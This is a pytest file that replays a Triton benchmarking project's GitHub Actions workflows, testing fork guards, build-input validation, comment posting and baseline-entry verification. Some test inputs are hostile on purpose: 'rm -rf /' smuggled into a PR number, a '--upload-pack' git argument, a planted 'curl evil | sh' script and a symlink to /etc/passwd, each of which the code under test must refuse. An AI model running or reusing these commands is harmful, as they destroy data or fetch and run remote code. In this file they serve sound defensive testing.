"""The PR gate job of .github/workflows/pr-gate.yml, run step by step on the CPU.

The `run:` scripts are taken from the YAML as they are (never copied here) and executed in
order with bash, the way the runner does: `shell: bash` (`bash --noprofile --norc -eo
pipefail`), the job's and the step's `env:` with their `${{ }}` expressions evaluated by the
small evaluator below, `$GITHUB_OUTPUT` lines fed into later `steps.<id>.outputs`, one
`$GITHUB_STEP_SUMMARY` file per step, `if:` conditions with the runner's status rules. The
local composite action (build-compiler, mode installed) runs for real, through the same
machinery; only remote actions (checkout, upload-artifact) are skipped, and the test says
which ones and checks that what they would have uploaded exists.

Scenario "published": a cpu record of the whole smoke suite is published into the
store first; the lookup finds it (state ok), the paired check of the build against itself
passes, and verdict.md (the comment body) is in the job summary.
Scenario "fallback": no store (its checkout fails, continue-on-error); the job records a
baseline with the base build, the PR build does twice the work per launch, the gate fails,
and the uploads still run and the job fails with the gate's exit code.

The same machinery then runs the nightly's two jobs (record with a one-row suite on the cpu
backend, A/A count, push of the new entry to a local bare "GitHub", with and without the data
branch), and the scripts of other workflows that parse data: the comment job's PR number from
an untrusted pr.json, the nightly's A/A count, the deep scan's shard list. Plus the fork guard
of the gate job, evaluated over the cases that matter.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.workflows.payloads import payload
from tests.workflows.replay import (Evaluator, JobRun, condition, interpolate, load_yaml,  # noqa: F401
                                    parse_github_output, to_string, truthy)

REPO = Path(__file__).resolve().parents[2]
WORKFLOWS = REPO / ".github" / "workflows"
ACTION_DIR = REPO / ".github" / "actions" / "build-compiler"
BUILD_ACTION = "./tritongate/.github/actions/build-compiler"
SHA_HEAD = "1" * 40
SHA_MERGE = "2" * 40
SHA_BASE = "3" * 40


def triggers(doc: dict) -> dict:
    """`on:` (PyYAML reads the bare key `on` as the boolean True)."""
    value = doc.get("on", doc.get(True))
    if isinstance(value, str):
        return {value: None}
    if isinstance(value, list):
        return {name: None for name in value}
    return value or {}


# -- the scenarios ----------------------------------------------------------------------------------
def gate_job() -> tuple[dict, dict]:
    doc = load_yaml(WORKFLOWS / "pr-gate.yml")
    return doc, doc["jobs"]["gate"]


def call_inputs(doc: dict, **overrides: Any) -> dict:
    """workflow_call inputs: the declared defaults, then the test's values (each must exist)."""
    declared = triggers(doc)["workflow_call"]["inputs"]
    inputs = {name: spec.get("default") for name, spec in declared.items()}
    for name, value in overrides.items():
        assert name in declared, f"pr-gate.yml has no workflow_call input {name!r}"
        inputs[name] = value
    return inputs


def pr_event(*, fork: bool = False, association: str = "CONTRIBUTOR") -> dict:
    """A documented pull_request payload (tests/workflows/events), its author's association set."""
    event = payload("pull_request.synchronize.fork" if fork else "pull_request.synchronize")
    event["pull_request"]["author_association"] = association
    return event


def clean_env(tmp: Path, workspace: Path, runner_temp: Path) -> dict:
    env = {k: v for k, v in os.environ.items()
           if not k.startswith(("GITHUB_", "RUNNER_", "ACTIONS_", "TRITONGATE_"))}
    env.update({"CI": "true", "GITHUB_ACTIONS": "true", "GITHUB_WORKSPACE": str(workspace),
                "RUNNER_TEMP": str(runner_temp), "GITHUB_REPOSITORY": "acme/triton", "GITHUB_RUN_ID": "1234",
                "GITHUB_SERVER_URL": "https://github.com", "GITHUB_SHA": SHA_MERGE,
                "GITHUB_EVENT_NAME": "pull_request", "TRITONGATE_LOG_DIR": str(tmp / "logs"),
                "NO_COLOR": "1"})
    return env


# -- the fork guard ---------------------------------------------------------------------------------
@pytest.mark.parametrize("case, event_name, event, fork_var, runs", [
    ("same-repo PR", "pull_request", pr_event(), "", True),
    ("fork PR, outside author, no attestation", "pull_request", pr_event(fork=True), "", False),
    ("fork PR, first-timer", "pull_request", pr_event(fork=True, association="FIRST_TIME_CONTRIBUTOR"), "", False),
    ("fork PR, outside author, approval required by setting", "pull_request", pr_event(fork=True),
     "require-approval-for-all-outside-collaborators", True),
    ("fork PR, a variable with another value", "pull_request", pr_event(fork=True), "yes", False),
    ("fork PR by a member", "pull_request", pr_event(fork=True, association="MEMBER"), "", True),
    ("fork PR by a collaborator", "pull_request", pr_event(fork=True, association="COLLABORATOR"), "", True),
    ("fork deleted (head.repo null)", "pull_request",
     {"pull_request": {**pr_event()["pull_request"], "head": {"sha": SHA_HEAD, "repo": None}}}, "", False),
    ("merge queue", "merge_group", payload("merge_group.checks_requested"), "", True),
])
def test_fork_guard(case: str, event_name: str, event: dict, fork_var: str, runs: bool) -> None:
    doc = load_yaml(WORKFLOWS / "pr-gate.yml")
    contexts = {"github": {"event_name": event_name, "repository": "acme/triton", "event": event},
                "vars": {"TRITONGATE_FORK_APPROVAL": fork_var} if fork_var else {}, "inputs": {},
                "needs": {"opt-in": {"result": "success", "outputs": {"run": "true", "full": "false"}}}}
    gate = condition(doc["jobs"]["gate"]["if"], Evaluator(contexts))
    refused = condition(doc["jobs"]["fork-not-approved"]["if"], Evaluator(contexts))
    assert gate is runs, case
    assert refused is (not runs), f"{case}: the refusing job must be the exact negation of the guard"


def test_gate_job_runs_on_the_labels_it_is_given() -> None:
    doc, job = gate_job()
    ev = Evaluator({"inputs": {"runner-labels": '["self-hosted", "h200"]'}, "vars": {}})
    assert interpolate(job["runs-on"], ev) == ["self-hosted", "h200"]
    ev = Evaluator({"inputs": {}, "vars": {"TRITONGATE_RUNNER_LABELS": '["self-hosted", "gpu-a"]'}})
    assert interpolate(job["runs-on"], ev) == ["self-hosted", "gpu-a"]


# -- the build action's own checks ----------------------------------------------------------------
@pytest.mark.parametrize("env, message", [
    ({"TG_MODE": "compile"}, "mode must be source, wheel, installed, overlay or auto"),
    ({"TG_MODE": "source", "TG_REPO": "../etc", "TG_REF": "main"}, "repo must be OWNER/NAME"),
    ({"TG_MODE": "source", "TG_REPO": "a/b/c", "TG_REF": "main"}, "repo must be OWNER/NAME"),
    ({"TG_MODE": "source", "TG_REPO": "triton-lang/triton", "TG_REF": ""}, "mode source needs a ref"),
    ({"TG_MODE": "source", "TG_REPO": "triton-lang/triton", "TG_REF": "--upload-pack=x"}, "must not start with '-'"),
    ({"TG_MODE": "wheel", "TG_REPO": "triton-lang/triton"}, "mode wheel needs the wheel input"),
])
def test_build_action_refuses_bad_inputs(tmp_path: Path, env: dict, message: str) -> None:
    proc = subprocess.run(["bash", str(ACTION_DIR / "build.sh"), "plan"], capture_output=True, text=True,
                          env={"PATH": os.environ["PATH"], "HOME": str(tmp_path), "TG_CACHE_ROOT": str(tmp_path / "c"),
                               "GITHUB_OUTPUT": str(tmp_path / "out"), **env})
    assert proc.returncode == 2, proc.stderr
    assert message in proc.stderr and proc.stderr.startswith("::error title=build-compiler::")


def _build_key(env: dict) -> str:
    proc = subprocess.run(["bash", str(ACTION_DIR / "build.sh"), "key"], env=env, capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    return proc.stdout.strip()


@pytest.mark.slow
def test_build_action_plans_a_cached_source_build(tmp_path: Path) -> None:
    commit = "a" * 40
    env = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), "TG_CACHE_ROOT": str(tmp_path / "c"),
           "GITHUB_OUTPUT": str(tmp_path / "out"), "TG_MODE": "source", "TG_REPO": "Triton-Lang/triton", "TG_REF": commit,
           "TG_PYTHON": sys.executable}
    venv = tmp_path / "c" / "triton-lang__triton" / f"{commit}-{_build_key(env)}" / "venv"
    venv.mkdir(parents=True)
    subprocess.run(["bash", str(ACTION_DIR / "build.sh"), "plan"], env=env, check=True)
    first = parse_github_output(tmp_path / "out")
    assert first["cached"] == "false" and first["src"].startswith(".tritongate-src/triton-lang__triton-")
    subprocess.run([sys.executable, str(ACTION_DIR / "venv_manifest.py"), "write", str(venv)], check=True)
    (venv / ".tritongate-complete").write_text("done\n")  # a finished build: the checkout is skipped
    (tmp_path / "out").unlink()
    subprocess.run(["bash", str(ACTION_DIR / "build.sh"), "plan"], env=env, check=True)
    assert parse_github_output(tmp_path / "out") == {"slug": "triton-lang__triton", "commit": commit,
                                                     "cached": "true", "src": "", "fetch-depth": "1"}


@pytest.mark.slow
def test_the_build_key_covers_interpreter_and_build_settings(tmp_path: Path) -> None:
    env = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), "TG_PYTHON": sys.executable}
    key = _build_key(env)
    assert re.fullmatch(r"[0-9a-f]{16}", key) and _build_key(env) == key
    for change in ({"FLAGTREE_BACKEND": "iluvatar"}, {"MAX_JOBS": "8"}, {"TRITON_BUILD_WITH_CLANG_LLD": "1"},
                   {"TG_PYTHON": shutil.which("python3") or "/usr/bin/python3"}):
        if change.get("TG_PYTHON") == sys.executable:
            continue
        assert _build_key({**env, **change}) != key, change


def test_installed_mode_with_a_missing_interpreter_fails(tmp_path: Path) -> None:
    out = tmp_path / "out"
    proc = subprocess.run(["bash", str(ACTION_DIR / "build.sh"), "build"], capture_output=True, text=True,
                          env={"PATH": os.environ["PATH"], "HOME": str(tmp_path), "GITHUB_OUTPUT": str(out),
                               "TG_MODE": "installed", "TG_PYTHON": str(tmp_path / "no-such-python")})
    assert proc.returncode == 2 and "not found" in proc.stderr
    assert "python=" not in (out.read_text() if out.exists() else "")


# -- scripts of the other workflows that parse data ----------------------------------------------
def _step(workflow: str, job: str, name_start: str) -> dict:
    doc = load_yaml(WORKFLOWS / workflow)
    return next(s for s in doc["jobs"][job]["steps"] if s.get("name", "").startswith(name_start))


def _run_step(step: dict, env: dict, cwd: Path) -> subprocess.CompletedProcess:
    script = cwd / "step.sh"
    script.write_text(step["run"], encoding="utf-8")
    base = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "RUNNER_"))}
    return subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)], cwd=cwd,
                          env={**base, **env}, capture_output=True, text=True, timeout=60)


def _post_comments(tmp_path: Path, verdicts: Path, event_pr: str, **extra: str) -> subprocess.CompletedProcess:
    """ci/post_comments.sh beside a stand-in post_comment.py that prints what it was asked."""
    fake_ci = tmp_path / "fake-ci"
    fake_ci.mkdir(exist_ok=True)
    shutil.copy(REPO / "ci" / "post_comments.sh", fake_ci / "post_comments.sh")
    (fake_ci / "post_comment.py").write_text("import sys; print('ARGS', sys.argv[1:])\n")
    env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "RUNNER_"))}
    env.update(PATH=f"{Path(sys.executable).parent}:{env['PATH']}", GITHUB_TOKEN="t", REPO="acme/triton",
               EVENT_PR=event_pr, HEAD_SHA=SHA_HEAD, VERDICTS=str(verdicts), HEAD_REPO="someone/triton",
               HEAD_BRANCH="fix-1", **extra)
    return subprocess.run(["bash", str(fake_ci / "post_comments.sh")], env=env, capture_output=True, text=True,
                          timeout=60)


def _verdict(folder: Path, pr_json: str | None) -> None:
    folder.mkdir(parents=True)
    (folder / "verdict.json").write_text("{}")
    if pr_json is not None:
        (folder / "pr.json").write_text(pr_json)


FROM_HEAD = "'--head-repo', 'someone/triton', '--head-branch', 'fix-1'"


@pytest.mark.parametrize("event_pr, pr_json, posted_pr", [
    ("7", '{"pr": 7, "key": "h200-pr"}', "'--pr', '7'"),  # same-repository PR: the event names it
    ("", '{"pr": 42, "head_sha": "x"}', FROM_HEAD),       # fork PR: looked up from the event's head, not 42
    ("", '{"pr": "42; rm -rf /"}', None),               # not an integer
    ("", '{"pr": 0}', None),
    ("", '{"pr": 4, "key": "a b"}', None),              # a key that is not a plain name
    ("", "[" * 5000, None),                             # too big
    ("", None, None),                                   # no pr.json
])
def test_comment_step_takes_the_pr_number_safely(tmp_path: Path, event_pr: str, pr_json: str | None,
                                                 posted_pr: str | None) -> None:
    verdicts = tmp_path / "verdicts"  # one artifact: download-artifact unpacks it without its folder
    _verdict(verdicts, pr_json)
    proc = _post_comments(tmp_path, verdicts, event_pr)
    if posted_pr is None:
        assert proc.returncode != 0 and "ARGS" not in proc.stdout, proc.stdout + proc.stderr
    else:
        assert proc.returncode == 0, proc.stderr
        assert f"{posted_pr}, '--head-sha', '{SHA_HEAD}'" in proc.stdout and "'42'" not in proc.stdout


@pytest.mark.parametrize("run_id, expected", [("4242", "'--run-id', '4242'"), (None, "'--run-id', ''")])
def test_comment_step_names_the_gate_run_the_comment_may_link(tmp_path: Path, run_id: str | None,
                                                              expected: str) -> None:
    """RUN_ID (workflow_run.id): post_comment.py links that run only, never verdict.json's own link."""
    verdicts = tmp_path / "verdicts"
    _verdict(verdicts, '{"pr": 7, "key": "h200-pr"}')
    proc = _post_comments(tmp_path, verdicts, "7", **({"RUN_ID": run_id} if run_id else {}))
    assert proc.returncode == 0, proc.stderr
    assert expected in proc.stdout


@pytest.mark.parametrize("login, expected", [("acme-perf[bot]", "'--bot-login', 'acme-perf[bot]'"), ("", None)])
def test_comment_step_looks_for_the_sticky_among_the_token_s_own_comments(tmp_path: Path, login: str,
                                                                       expected: str | None) -> None:
    """A GitHub App's token comments as <slug>[bot]: without its login every run posted a new sticky."""
    verdicts = tmp_path / "verdicts"
    _verdict(verdicts, '{"pr": 7, "key": "h200-pr"}')
    proc = _post_comments(tmp_path, verdicts, "7", BOT_LOGIN=login)
    assert proc.returncode == 0, proc.stderr
    if expected is None:
        assert "--bot-login" not in proc.stdout  # post_comment.py's default, github-actions[bot]
    else:
        assert expected in proc.stdout


def test_comment_step_posts_one_sticky_per_runner_class_and_suite(tmp_path: Path) -> None:
    verdicts = tmp_path / "verdicts"  # two artifacts: each in its own folder
    _verdict(verdicts / "tritongate-verdict-acme-h200-pr", '{"pr": 7, "key": "acme-h200-pr"}')
    _verdict(verdicts / "tritongate-verdict-acme-mi300-pr", '{"pr": 7, "key": "acme-mi300-pr"}')
    proc = _post_comments(tmp_path, verdicts, "7")
    assert proc.returncode == 0, proc.stderr
    calls = [line for line in proc.stdout.splitlines() if line.startswith("ARGS")]
    assert len(calls) == 2 and "'--key', 'acme-h200-pr'" in calls[0] and "'--key', 'acme-mi300-pr'" in calls[1]


def test_comment_step_refuses_a_key_that_is_not_its_artifacts(tmp_path: Path) -> None:
    """A verdict whose pr.json names another class's key would replace that class's comment."""
    verdicts = tmp_path / "verdicts"
    _verdict(verdicts / "tritongate-verdict-acme-h200-pr", '{"pr": 7, "key": "acme-h200-pr"}')
    _verdict(verdicts / "tritongate-verdict-acme-mi300-pr", '{"pr": 7, "key": "acme-h200-pr"}')
    proc = _post_comments(tmp_path, verdicts, "7")
    assert proc.returncode == 1
    calls = [line for line in proc.stdout.splitlines() if line.startswith("ARGS")]
    assert len(calls) == 1 and "'--key', 'acme-h200-pr'" in calls[0]
    assert "::error::tritongate-verdict-acme-mi300-pr: pr.json's key is not this artifact's name" in proc.stdout


@pytest.mark.parametrize("calls, aa_exit, fails", [
    (["within noise"] * 30, "0", False),
    (["within noise"] * 28 + ["slower", "faster"], "1", True),
    (["within noise"] * 29 + ["slower"], "0", True),  # an identical-binary row whose timing was called: still false
    (["within noise"] * 30, "2", True),
])
def test_nightly_counts_the_aa_false_alarms(tmp_path: Path, calls: list, aa_exit: str, fails: bool) -> None:
    action = load_yaml(REPO / ".github" / "actions" / "record-baseline" / "action.yml")
    step = next(s for s in action["runs"]["steps"] if s["name"] == "Count the A/A false alarms")
    verdict = tmp_path / "verdict"
    verdict.mkdir()
    rows = [{"timed": True, "verdict": "IDENTICAL_BINARY", "timing_change": c} for c in calls]
    (verdict / "verdict.json").write_text(json.dumps({"counts": {"IDENTICAL_BINARY": len(rows)}, "rows": rows}))
    summary = tmp_path / "summary.md"
    proc = _run_step(step, {"PY": sys.executable, "VERDICT_DIR": str(verdict), "AA_EXIT": aa_exit,
                            "GITHUB_STEP_SUMMARY": str(summary), "RUNNER_TEMP": str(tmp_path),
                            "GITHUB_OUTPUT": str(tmp_path / "out"),
                            "GITHUB_ACTION_PATH": str(REPO / ".github" / "actions" / "record-baseline")}, tmp_path)
    assert (proc.returncode != 0) is fails, proc.stdout + proc.stderr
    called = calls.count("slower") + calls.count("faster")
    assert f"**{called}** of {len(calls)} rows called slower or faster" in summary.read_text()


@pytest.mark.parametrize("shards, expected", [("4", [1, 2, 3, 4]), ("1", [1]), ("32", list(range(1, 33))),
                                              ("0", None), ("33", None), ("2x", None)])
def test_deep_scan_plans_its_shards(tmp_path: Path, shards: str, expected: list[int] | None) -> None:
    step = _step("deep-scan.yml", "plan", "Shard list")
    out = tmp_path / "out"
    proc = _run_step(step, {"SHARDS": shards, "GITHUB_OUTPUT": str(out)}, tmp_path)
    if expected is None:
        assert proc.returncode != 0 and "shards must be a whole number" in proc.stdout
    else:
        assert proc.returncode == 0, proc.stderr
        assert json.loads(parse_github_output(out)["shards"]) == expected


# -- the nightly: record, publish locally, A/A, then push the entry ----------------------------------
def _git(*args: str, cwd: Path | None = None) -> str:
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.com",
           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.com"}
    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True).stdout


RECORD_ACTION = "./tritongate/.github/actions/record-baseline"
RECORD_ACTION_DIR = REPO / ".github" / "actions" / "record-baseline"


@pytest.mark.slow
def test_nightly_records_checks_and_pushes_one_entry(tmp_path: Path) -> None:
    """Both nightly jobs on a schedule event (its documented payload: the cron string only),
    through the record-baseline action; the push goes to a local bare "GitHub", with and
    without the data branch. The compiler build is the one step not run (mode source cannot
    build here): it is faked with this interpreter and a commit."""
    doc = load_yaml(WORKFLOWS / "nightly-baseline.yml")
    branch = doc["env"]["BASELINE_BRANCH"]
    suite = tmp_path / "tiny.yaml"  # one row, so the record and the A/A take seconds
    suite.write_text("description: one row\ndtypes: [float16]\nops:\n  add: {shapes: [[4096]]}\n")
    servers = {True: tmp_path / "server-with-branch", False: tmp_path / "server-first-nightly"}
    for exists, server in servers.items():
        origin = server / "acme" / "tritongate.git"
        _git("init", "-q", "--bare", str(origin))
        if exists:
            seed = tmp_path / "seed"
            _git("init", "-q", "-b", branch, str(seed))
            (seed / "README.md").write_text("baselines\n")
            _git("add", "README.md", cwd=seed)
            _git("commit", "-q", "-m", "seed", cwd=seed)
            _git("push", "-q", str(origin), f"HEAD:refs/heads/{branch}", cwd=seed)

    uploads: dict[str, dict] = {}

    def job_run(name: str, server: Path, needs: dict, download: Path | None = None) -> tuple[JobRun, str]:
        workspace, runner_temp = tmp_path / name / server.name / "ws", tmp_path / name / server.name / "temp"
        workspace.mkdir(parents=True)
        runner_temp.mkdir(parents=True)
        github = {"event_name": "schedule", "repository": "acme/tritongate", "repository_owner": "Acme",
                  "sha": SHA_MERGE, "token": "ghs_x",
                  "ref": "refs/heads/main", "run_id": "99", "server_url": server.as_uri(),
                  "event": payload("schedule")}  # documented: the cron string, nothing else
        contexts = {"inputs": {}, "vars": {}, "github": github, "needs": needs,
                    "job": {"workflow_repository": "acme/tritongate", "workflow_sha": SHA_MERGE},
                    "runner": {"temp": str(runner_temp), "os": "Linux"}}
        job = doc["jobs"][name]
        assert condition(job["if"], Evaluator(contexts)), f"{name} would not run on a schedule"

        def uses(run: JobRun, step: dict, with_values: dict) -> tuple[str, dict] | None:
            ref = step["uses"]
            if ref == RECORD_ACTION:
                if name == "record":  # the one change: the cpu backend and a one-row suite
                    with_values = {**with_values, "backend": "cpu", "suite": str(suite)}
                return run.run_composite(RECORD_ACTION_DIR, with_values, run.current_env)
            if ref.startswith("actions/checkout@"):
                if with_values.get("path") == "tritongate":
                    (run.workspace / "tritongate").symlink_to(REPO, target_is_directory=True)
                return None  # the compiler checkout: the build that would use it is faked
            if ref.startswith("actions/upload-artifact@"):
                uploads[with_values["name"]] = with_values
                return None
            if ref.startswith("actions/download-artifact@"):
                assert with_values["name"] == "tritongate-baseline-entry-acme-h200" and download is not None
                shutil.copytree(download, with_values["path"])
                return None
            if ref.startswith("actions/setup-python@"):
                return None  # this interpreter is first on PATH
            raise AssertionError(ref)

        env = {**clean_env(tmp_path, workspace, runner_temp), "GITHUB_SERVER_URL": server.as_uri(),
               "GITHUB_REPOSITORY": "acme/tritongate", "GITHUB_RUN_ID": "99", "GITHUB_EVENT_NAME": "schedule",
               "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
        run = JobRun(workspace, runner_temp, contexts, env, uses)
        run.fakes = {"build": {"python": sys.executable, "commit": "5" * 40},  # the build of main
                     "deps": {}}  # the verifier's pip install: this interpreter has them
        return run, run.run_job(job, doc.get("env"))

    record, status = job_run("record", servers[True], {})
    assert status == "success", record.log()
    entry = record.inner_steps["publish"]["outputs"]["entry"]
    # no runner-class input or variable: the class is the owner's (lower-cased), never a shared `h200`
    assert re.fullmatch(r"acme-h200/tiny/cpu/[0-9]{8}T[0-9]{6}Z-5555555[0-9a-f]*(-[0-9]+)?", entry), entry
    entry_path = Path(uploads["tritongate-baseline-entry-acme-h200"]["path"])
    assert (entry_path / "manifest.json").is_file()
    summary = "".join(record.summaries)
    assert "**0** of 1 rows called slower or faster" in summary, summary
    history = record.runner_temp / "tritongate" / "history"
    assert (history / "history.json").is_file() and (history / "history.md").is_file(), record.log()
    assert "change points" in summary.lower(), summary
    assert set(uploads) == {"tritongate-baseline-entry-acme-h200", "tritongate-nightly-runs-acme-h200"}

    for exists, server in servers.items():
        needs = {"record": {"outputs": {"entry": entry}, "result": "success"}}
        publish, status = job_run("publish", server, needs, download=entry_path)
        assert status == "success", publish.log()
        pushed = _git("--git-dir", str(server / "acme" / "tritongate.git"), "ls-tree", "-r", "--name-only",
                      branch).splitlines()
        assert f"{entry}/manifest.json" in pushed, pushed
        assert ("README.md" in pushed) is exists  # nothing already on the branch was lost
        assert "verified " + entry in publish.log()
        assert "ghs_x" not in publish.log()


@pytest.mark.slow
def test_publish_refuses_an_entry_that_was_changed_on_the_way(tmp_path: Path) -> None:
    store = tmp_path / "store"
    proc = subprocess.run([sys.executable, str(REPO / "ci" / "record_baseline.py"), "--suite", "smoke",
                           "--backend", "cpu", "--out", str(tmp_path / "record"), "--publish", str(store),
                           "--runner-class", "cpu-ci"], capture_output=True, text=True, timeout=300,
                          env={k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "TRITONGATE_"))})
    assert proc.returncode == 0, proc.stderr
    entry_dir = Path(proc.stdout.splitlines()[-1].split(": ", 1)[1])
    entry = entry_dir.relative_to(store).as_posix()

    def verify(folder: Path) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-I", str(REPO / "ci" / "verify_entry.py"), str(folder),
                               "--entry", entry], capture_output=True, text=True)

    assert verify(entry_dir).returncode == 0
    for case in ("edited", "extra", "symlink", "moved"):
        copy = tmp_path / case
        shutil.copytree(entry_dir, copy, symlinks=True)
        victim = next(p for p in sorted(copy.rglob("*")) if p.is_file() and p.name != "manifest.json")
        if case == "edited":
            victim.write_bytes(victim.read_bytes() + b" ")
        elif case == "extra":
            (copy / "payload.sh").write_text("curl evil | sh\n")
        elif case == "symlink":
            victim.unlink()
            victim.symlink_to("/etc/passwd")
        else:
            proc = verify(copy)
            proc = subprocess.run([sys.executable, "-I", str(REPO / "ci" / "verify_entry.py"), str(copy),
                                   "--entry", "other/place/cpu/x"], capture_output=True, text=True)
            assert proc.returncode == 2 and "record_path" in proc.stderr
            continue
        proc = verify(copy)
        assert proc.returncode == 2 and proc.stderr.startswith("error: verify_entry.py: refused"), (case, proc.stderr)


def _download_v8(artifacts: dict[str, Path], dest: Path, *, merge_multiple: bool) -> None:
    """download-artifact v8 by pattern: merged into dest, or one folder per artifact, except
    that a single match is unpacked into dest without its folder."""
    dest.mkdir(parents=True)
    for name, content in artifacts.items():
        target = dest if merge_multiple or len(artifacts) == 1 else dest / name
        shutil.copytree(content, target, dirs_exist_ok=True)


@pytest.mark.parametrize("shards", [1, 3])
def test_deep_scan_merges_one_shard_as_well_as_several(tmp_path: Path, shards: int) -> None:
    doc = load_yaml(WORKFLOWS / "deep-scan.yml")
    download = next(s for s in doc["jobs"]["merge"]["steps"] if s.get("name") == "Download the shards")
    artifacts = {}
    for i in range(1, shards + 1):  # what each scan job's upload holds: shard-N/ with its pair directory
        content = tmp_path / f"artifact-{i}"
        (content / f"shard-{i}" / "base").mkdir(parents=True)
        artifacts[f"tritongate-shard-{i}"] = content
    runner_temp = tmp_path / "temp"
    _download_v8(artifacts, runner_temp / "shards", merge_multiple=download["with"].get("merge-multiple", False))
    fake_bin = tmp_path / "bin"
    fake_bin.mkdir()
    (fake_bin / "tritongate").write_text("#!/bin/sh\nprintf 'MERGE %s\\n' \"$*\"\n")
    (fake_bin / "tritongate").chmod(0o755)
    step = _step("deep-scan.yml", "merge", "Merge and gate")
    proc = _run_step(step, {"SHARDS": str(shards), "RUNNER_TEMP": str(runner_temp), "GITHUB_OUTPUT": str(tmp_path / "o"),
                            "GITHUB_STEP_SUMMARY": str(tmp_path / "s"), "GITHUB_SERVER_URL": "https://github.com",
                            "GITHUB_REPOSITORY": "acme/triton", "GITHUB_RUN_ID": "1",
                            "PATH": f"{fake_bin}:{os.environ['PATH']}"}, tmp_path)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert f"{shards} of {shards} shards came back" in (tmp_path / "s").read_text()
    merged = proc.stdout.split("MERGE ", 1)[1]
    assert "--allow-partial" not in merged and merged.count("/shards/shard-") == shards


@pytest.mark.slow
def test_a_pr_job_never_writes_the_shared_build_cache(tmp_path: Path) -> None:
    commit = "b" * 40
    env = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), "TG_CACHE_ROOT": str(tmp_path / "shared"),
           "RUNNER_TEMP": str(tmp_path / "temp"), "TG_MODE": "source", "TG_REPO": "acme/triton", "TG_REF": commit,
           "TG_PLAN_COMMIT": commit, "TG_PYTHON": sys.executable}

    def where(**extra: str) -> str:
        proc = subprocess.run(["bash", str(ACTION_DIR / "build.sh"), "where"], env={**env, **extra},
                              capture_output=True, text=True)
        assert proc.returncode == 0, proc.stderr
        return proc.stdout.strip()

    assert where(TG_CACHE_WRITE="true").startswith(str(tmp_path / "shared"))        # the nightly builds there
    assert where(TG_CACHE_WRITE="false").startswith(str(tmp_path / "temp" / "tritongate-pr"))  # a PR job: throwaway
    shared = Path(where(TG_CACHE_WRITE="true"))
    shared.mkdir(parents=True)
    (shared / ".tritongate-complete").write_text("by the nightly\n")
    # a marker alone is not trust: without the nightly's manifest the PR job builds its own
    assert where(TG_CACHE_WRITE="false").startswith(str(tmp_path / "temp" / "tritongate-pr"))
    subprocess.run([sys.executable, str(ACTION_DIR / "venv_manifest.py"), "write", str(shared)], check=True)
    assert where(TG_CACHE_WRITE="false") == str(shared)  # a complete trusted build is reused, read only


def test_the_gate_actions_builds_and_kernel_caches_stay_in_the_job() -> None:
    steps_ = load_yaml(REPO / ".github" / "actions" / "pr-gate" / "action.yml")["runs"]["steps"]
    for sid in ("base-plan", "base", "cand-plan", "cand"):
        env = next(s for s in steps_ if s.get("id") == sid)["env"]
        assert env["TG_CACHE_WRITE"] == "false", sid
        for name in ("TRITON_HOME", "TRITON_CACHE_DIR", "PIP_CACHE_DIR", "XDG_CACHE_HOME", "CCACHE_DIR"):
            assert env[name].startswith("${{ runner.temp }}/tritongate-pr/"), (sid, name)
    for sid in ("side", "pair"):
        env = next(s for s in steps_ if s.get("id") == sid)["env"]
        assert env["TRITON_CACHE_DIR"].startswith("${{ runner.temp }}/tritongate-pr/"), sid
    nightly = load_yaml(REPO / ".github" / "actions" / "record-baseline" / "action.yml")["runs"]["steps"]
    assert all("TG_CACHE_WRITE" not in (s.get("env") or {}) for s in nightly)  # the trusted job writes (default)


def test_one_verdict_that_cannot_be_posted_does_not_stop_the_others(tmp_path: Path) -> None:
    verdicts = tmp_path / "verdicts"
    _verdict(verdicts / "tritongate-verdict-acme-h100-pr", "{not json")
    _verdict(verdicts / "tritongate-verdict-acme-h200-pr", '{"pr": 7, "key": "acme-h200-pr"}')
    _verdict(verdicts / "tritongate-verdict-acme-mi300-pr", '["a list"]')
    proc = _post_comments(tmp_path, verdicts, "7")
    assert proc.returncode == 1 and "Traceback" not in proc.stdout + proc.stderr
    calls = [line for line in proc.stdout.splitlines() if line.startswith("ARGS")]
    assert len(calls) == 1 and "'--key', 'acme-h200-pr'" in calls[0]
    assert "::error::tritongate-verdict-acme-h100-pr: pr.json: not JSON; this verdict is not posted" in proc.stdout
    assert "::error::tritongate-verdict-acme-mi300-pr: pr.json: not a JSON object" in proc.stdout
    assert ("::error::2 of 3 verdicts not posted: tritongate-verdict-acme-h100-pr tritongate-verdict-acme-mi300-pr"
            in proc.stdout)
